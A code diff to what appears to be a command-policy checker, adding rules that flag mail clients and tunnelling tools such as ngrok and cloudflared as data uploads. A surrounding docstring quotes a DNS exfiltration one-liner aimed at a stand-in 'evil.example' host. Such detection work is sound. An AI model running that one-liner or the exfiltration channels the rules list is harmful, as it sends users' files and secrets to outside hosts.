@@ -367,6 +367,24 @@ def _httpie(run: _Run) -> None:
         run.flag("mutating", f"{run.name} sends local data to a remote server", "upload")
 
 
+def _mailer(run: _Run) -> None:
+    """mail/mailx/sendmail/swaks/mutt/msmtp: a message, its body read from stdin or a file, goes to another host."""
+    texts = [a.text for a in run.args]
+    if texts and all(t in ("-h", "--help", "-V", "--version", "-v") for t in texts):
+        return
+    run.flag("mutating", f"{run.name} sends a message to another host", "upload")
+
+
+def _tunnel(run: _Run) -> None:
+    """ngrok/cloudflared/localtunnel/bore: a local port (and whatever serves it) is reachable from the internet."""
+    words = [a.text for a in run.args if not a.text.startswith("-")]
+    texts = [a.text for a in run.args]
+    if not texts or all(t in ("-h", "--help", "-v", "-V", "--version", "version", "help") for t in texts) or \
+            (words[:1] in (["config"], ["update"], ["login"], ["diagnose"]) and run.name in ("ngrok", "cloudflared")):
+        return
+    run.flag("mutating", f"{run.name} exposes a local port to the internet", "upload")
+
+
 def _resolver(run: _Run) -> None:
     """dig/nslookup/host/getent/ping/traceroute/whois: a name the command computed goes out in a DNS query (UDP,
     which no kernel rule here filters) -- ``nslookup $(base64 -w0 f).evil.example`` is an upload."""
@@ -381,4 +399,6 @@ RULES: dict[str, Callable[[_Run], None]] = {
     "ftp": _sender, "lftp": _sender,
     **dict.fromkeys(_RESOLVERS, _resolver),
     **dict.fromkeys(("http", "https", "xh", "xhs"), _httpie),
+    **dict.fromkeys(("mail", "mailx", "s-nail", "sendmail", "swaks", "mutt", "msmtp"), _mailer),
+    **dict.fromkeys(("ngrok", "cloudflared", "lt", "localtunnel", "bore"), _tunnel),
 }
